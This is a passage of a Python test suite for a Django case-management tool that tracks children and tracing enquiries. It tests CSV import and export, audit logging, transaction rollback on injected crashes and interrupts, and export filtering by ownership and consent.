    before = AuditEvent.objects.count()
    report = import_file(
        as_(caseworker), write(tmp_path, "e2.csv", changed), "enquiries", update=True
    )
    assert (report.created, report.updated, report.unchanged) == (0, 1, 1)
    enquiry = Enquiry.objects.get(record_id="E-1")
    assert enquiry.enquirer.full_name == "Ковальчук Ганна Іванівна"
    assert enquiry.enquirer.contact == "+000 555 0199"
    assert enquiry.enquirer_relationship == "mother"
    events = list(AuditEvent.objects.order_by("sequence"))[before:]
    assert [(e.action, e.object_type) for e in events] == [
        ("update", "person"),
        ("import", "enquiry"),
    ]
    assert events[0].changes["contact"] == ["+000 555 0101", "+000 555 0199"]


@pytest.mark.django_db
def test_estimated_age_is_exported_as_of_today(caseworker: Any, tmp_path: Path) -> None:
    today = dt.date.today()
    two_years_ago = today.replace(year=today.year - 2, day=min(today.day, 28))
    actions.create_child(
        as_(caseworker),
        {"record_id": "AGE", "estimated_age": 7, "estimated_age_on": two_years_ago},
        [{"given_name": "Ярослав"}],
    )
    out = tmp_path / "age.csv"
    export_file(as_(caseworker), "children", out)
    assert read_file(out, "children").records[0].estimated_age == 9
    report = import_file(as_(caseworker), out, "children", update=True)
    assert report.unchanged == 1
    child = Child.objects.get(record_id="AGE")
    assert (child.estimated_age, child.estimated_age_on) == (7, two_years_ago)


@pytest.mark.django_db
def test_check_only_reports_what_would_happen_as_json(caseworker: Any, tmp_path: Path) -> None:
    path = write(tmp_path, "children.csv", GOOD_CHILDREN)
    import_file(as_(caseworker), path, "children")
    changed = write(tmp_path, "changed.csv", GOOD_CHILDREN.replace("needs glasses", "glasses"))
    before = state()
    result = cli("import", "children", str(changed), "--as", caseworker.username, "--check",
                 "--update", "--json")  # fmt: skip
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["checked_only"] is True
    assert (data["created"], data["updated"], data["unchanged"]) == (0, 1, 2)
    assert [r["action"] for r in data["records"]] == ["unchanged", "unchanged", "update"]
    assert state() == before


@pytest.mark.django_db(transaction=True)
def test_crash_rolls_back_a_real_transaction(
    caseworker: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As above, with real commits: the import's own transaction is the outermost one."""
    actions.create_child(as_(caseworker), {"record_id": "OLD"}, [{"surname": "Давній"}])
    real_update = actions.update_person
    calls = {"n": 0}

    def update_then_crash(*args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == 2:
            raise MemoryError
        return real_update(*args, **kwargs)

    import_file(as_(caseworker), write(tmp_path, "e.csv", GOOD_ENQUIRIES), "enquiries")
    before = state()
    monkeypatch.setattr(actions, "update_person", update_then_crash)
    both_changed = GOOD_ENQUIRIES.replace("+000 555 0101", "+000 555 0102").replace(
        "petro@example.org", "petro@example.net"
    )
    with pytest.raises(ImportFailed) as info:
        import_file(
            as_(caseworker), write(tmp_path, "e2.csv", both_changed), "enquiries", update=True
        )
    assert (info.value.row, info.value.message) == (3, "MemoryError")
    assert state() == before
    assert Person.objects.get(enquiries__record_id="E-1").contact == "+000 555 0101"
    assert verify_chain()[1] is None


@pytest.mark.django_db
def test_ctrl_c_during_import_rolls_back(
    caseworker: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_create = actions.create_children
    calls = {"n": 0}

    def create_then_interrupt(*args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == 2:
            raise KeyboardInterrupt
        return real_create(*args, **kwargs)

    monkeypatch.setattr(importing, "WRITE_BATCH", 1)
    monkeypatch.setattr(actions, "create_children", create_then_interrupt)
    before = state()
    path = write(tmp_path, "children.csv", GOOD_CHILDREN)
    result = cli("import", "children", str(path), "--as", caseworker.username, "--quiet")
    assert result.exit_code == 130
    assert "Interrupted: the import was rolled back" in result.output
    assert state() == before


@pytest.mark.django_db
def test_generated_ids_of_missing_records_are_refused(caseworker: Any, tmp_path: Path) -> None:
    text = HEADER_CHILDREN + "\nIEA-child-99999,Ковальчук,Олександр" + "," * 15 + "\n"
    problems = refused(caseworker, write(tmp_path, "c.csv", text), update=True)
    assert problems[0].startswith("row 2, column record_id: 'IEA-child-99999' is the kind of id")


@pytest.mark.django_db
def test_export_own_only_and_consented_only(caseworker: Any, person: Any, tmp_path: Path) -> None:
    other = person("caseworker", "b")
    shared = actions.create_child(
        as_(other), {"record_id": "SH", "consent_for_tracing": True}, [{"surname": "Спільний"}]
    )
    actions.share_record(as_(other), shared, caseworker.membership.organization)
    actions.create_child(as_(caseworker), {"record_id": "NO"}, [{"surname": "Без"}])
    yes = actions.create_child(
        as_(caseworker), {"record_id": "YES", "consent_for_tracing": True}, [{"surname": "Так"}]
    )
    out = tmp_path / "o.csv"
    report = export_file(as_(caseworker), "children", out, own_only=True, consented_only=True)
    assert report.ids == [yes.pk]
    event = AuditEvent.objects.filter(action="export").get()
    assert event.changes["own_only"] is True and event.changes["consented_only"] is True
    result = cli("export", "--as", caseworker.username, "--kind", "children", "--out",
                 str(tmp_path / "c.csv"), "--consented-only", "--json")  # fmt: skip
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["rows"] == 2  # own YES and the shared SH
    none = cli("export", "--as", caseworker.username, "--kind", "children", "--out",
               str(tmp_path / "n.csv"), "--own-only", "--q", "Спільний")  # fmt: skip
    assert none.exit_code == 1
    assert "you can see no children matching 'Спільний', owned by your organisation" in none.output
